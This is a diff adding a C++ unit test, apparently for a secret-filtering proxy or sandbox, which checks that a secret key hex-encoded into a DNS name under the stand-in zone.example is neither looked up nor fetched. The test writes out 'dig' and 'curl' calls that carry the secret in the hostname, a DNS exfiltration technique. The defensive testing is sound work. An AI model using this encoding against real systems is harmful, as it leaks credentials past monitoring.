@@ -243,6 +243,25 @@ TEST_F(SecretExchange, AValueDoesNotLeave) {
   EXPECT_THAT(at_the_server(), Not(HasSubstr("0123456789")));
 }
 
+// Whoever serves a zone reads what is asked of it, whatever comes of the answer.
+TEST_F(SecretExchange, AValueInANameIsNotLookedUp) {
+  allow_host("*.zone.example");
+  settings_.http_proxy = {{ip("100.127.255.1"), 3128}};
+  resolver_.add("www.zone.example", kPublic);
+  start();
+  const std::string name = hex(as_bytes(kKey)) + ".zone.example";
+  const auto dig = [&](const std::string& of) {
+    return guest({"dig", "+tries=1", "+time=3", of}).out;
+  };
+  EXPECT_THAT(dig(name), AllOf(HasSubstr("NXDOMAIN"), HasSubstr("secret_leak")));
+  EXPECT_THAT(curl("https://" + name + "/", {"-x", "http://100.127.255.1:3128"}),
+              AllOf(HasSubstr("403"), HasSubstr("secret_leak")));
+  EXPECT_THAT(dig("www.zone.example"), HasSubstr(kPublic));
+  EXPECT_THAT(resolver_.asked, ::testing::ElementsAre(HasSubstr("www.zone.example")));
+  EXPECT_THAT(told(), ::testing::Contains(HasSubstr("dns deny secret_leak A")));
+  EXPECT_EQ(events_.at(0).rule, "secret:KEY");
+}
+
 TEST_F(SecretExchange, LargeFormsAreRewritten) {
   rule_.places = {"form"};
   start();
